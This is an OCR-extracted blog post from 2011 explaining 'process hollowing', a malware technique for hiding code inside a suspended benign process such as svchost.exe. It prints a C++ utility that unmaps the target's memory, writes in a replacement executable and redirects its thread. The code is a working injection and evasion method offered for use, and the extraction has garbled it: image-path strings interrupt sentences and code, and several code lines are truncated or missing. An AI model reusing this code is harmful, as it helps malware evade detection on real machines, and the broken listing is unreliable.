RCE Endeavors 😅

February 14, 2011

Running a (32-bit) Process in the Context of Another

Filed under: General x86 — admin @ 12:53 AM

I’ve recently finished reading Malware Analyst’s Cookbook, a very thorough and up-to-date book on malware analysis. Among one of the many useful things in the later chapters was a code injection technique in which a process runs in anothers’ context, which theycalled “process hollowing”. Googling the term yields no useful results, and the closest that I could find was a 2004 paper by Tan Chew Keong called,“Dynamic Forking of Win32 EXE” in which the technique is outlined in a similar manner as the book. I decided to give a shot at implementing this one afternoon, especially since code for the technique was partially provided in the book.

The overall technique is very simple. A malicious process executes, creates a benign looking process (svchost.exe, lsass.exe, …) in a suspended state. The malware then deallocates all of the memory of the benign process and replaces it with its own. Once this is done, the malware resumes the process and now the benign looking process is executing only malicious code. The main benefit that this technique provides over simply naming the malware (svchost.exe, lsass.exe, …) is that the processes’ PEB is untouched; meaning that it will preserve valid looking fields in important structures such as RTL_USER_PROCESS_PARAMETERS, which stores important information such as the path on file, command line parameters, working directories, etc. Therefore, to someone inspecting the process externally or statically (e.g. not attaching a debugger to a running instance), everything will appear normal. Below is a utility that I coded up in a few hours which runs one process in the contextof another. The variation and introduction of an external application to do this is intentional, since just writing one process that runs in the context of another by itself is pretty useless (except for malware). The version shown here is about as stripped down as can get — it simply demonstrates the technique. Anyone using the code should definitely have error handling at each step. I also won’t take any undeserved credit for the code provided below except the fact that I physically typed it up and haven’t found code written in C++ showing this technique (excusing the above-mentioned link to the paper, which does it slightly differently). There are, of course, the obvious limitations to this technique as implemented (32-bit to 32-bit replacement only, the two processes must have the same subsystem, etc.)

#include <Windows.h>
#include <assert.h>
typedef NTSTATUS (__stdcall* pNtUnmapViewOfSection)(HANDLE ProcessHandle,
    PVOID BaseAddress);
typedef struct {PIMAGE_DOS_HEADER dos_header;
    PIMAGE_NT_HEADERS nt_headers;
    PIMAGE_SECTION_HEADER section_header;
    LPBYTE file_data;
void get_replacement_info(const char* full_file_path, PNEW_PROCESS_INFO new_process_info) {
    HANDLE hFile = CreateFileA(full_file_path, GENERIC_READ, FILE_SHARE_READ, NULL,
    DWORD file_size = GetFileSize(hFile, NULL); //Note: High DWORD ignored, dangerous with >4GB files :-P
    new_process_info->file_data = (LPBYTE)malloc(file_size * sizeof(LPBYTE));
    DWORD bytes_read;
    ReadFile(hFile, new_process_info->file_data, file_size, &bytes_read, 0);
    assert(bytes_read == file_size);
    new_process_info->dos_header =
    new_process_info->nt_headers =
int main(int argc, char* argv[]) {
    NEW_PROCESS_INFO new_process_info;
    PROCESS_INFORMATION process_info;
    STARTUPINFOA startup_info;
    RtlZeroMemory(&startup_info, sizeof(STARTUPINFOA));
    pNtUnmapViewOfSection NtUnmapViewOfSection = NULL;
    CreateProcessA(NULL, argv[1], NULL, NULL, FALSE, CREATE_SUSPENDED,
        NULL, NULL, &startup_info, &process_info);
    get_replacement_info(argv[2], &new_process_info);
    NtUnmapViewOfSection = (pNtUnmapViewOfSection)(GetProcAddress(
        GetModuleHandleA("ntdll.dll"), "NtUnmapViewOfSection"));
    //Remove target memory codeNtUnmapViewOfSection(process_info.hProcess, (PVOID)new_process_info.nt_headers->OptionalHeader.ImageBase);
    //Allocate memory in target process starting at replacements image base
    VirtualAllocEx(process_info.hProcess,(PVOID)new_process_info.nt_headers->OptionalHeader.ImageBase,
    //Copy in PE header of replacement process
    WriteProcessMemory(process_info.hProcess, (PVOID)new_process_info.nt_headers->OptionalHeader.ImageBase,
        &new_process_info.file_data[0], new_process_info.nt_headers->OptionalHeader.SizeOfHeaders, NULL);
    //Write in all sections of the replacement process
    for(int i = 0; i < new_process_info.nt_headers->FileHeader.NumberOfSections; i++) {
        //Get offset of section
        int section_offset = new_process_info.dos_header->e_lfanew + sizeof(IMAGE_NT_HEADERS) +
            (sizeof(IMAGE_SECTION_HEADER) * i);
        new_process_info.section_header = (PIMAGE_SECTION_HEADER)(&new_process_info.file_data[section_offset]);
        //Write in section
        WriteProcessMemory(process_info.hProcess, (PVOID)(new_process_info.nt_headers->OptionalHeader.ImageBase +
            new_process_info.section_header->SizeOfRawData, NULL);
    //Get CONTEXT of main thread of suspended process, fix up EAX to point to new entry point
    LPCONTEXT thread_context = (LPCONTEXT)_aligned_malloc(sizeof(CONTEXT), sizeof(DWORD));
    thread_context->ContextFlags = CONTEXT_FULL;
    GetThreadContext(process_info.hThread, thread_context);
    thread_context->Eax = new_process_info.nt_headers->OptionalHeader.ImageBase +
    SetThreadContext(process_info.hThread, thread_context);
    //Resume the main thread, now holding the replacement processes code
    return 0;

The usage is as follows:

runasprocess [process to replace] [replacement process]

Here is a program that outputs a MessageBox running as an instance of VMWare:

The 64-bit analogue to this isn’t so nice — you can’t simply use PIMAGE_NT_HEADERS64 and a 64-bit _CONTEXT structure and modify RAX since process loading is done differently under 64-bit systems. Ihaven’t read much about 64-bit loading so it’s definitely something for the future.

A downloadable PDF of this post can be found here.

No Comments »

No comments yet.

RSS feed for comments on thispost. TrackBack URL

Leave acomment


Powered by WordPress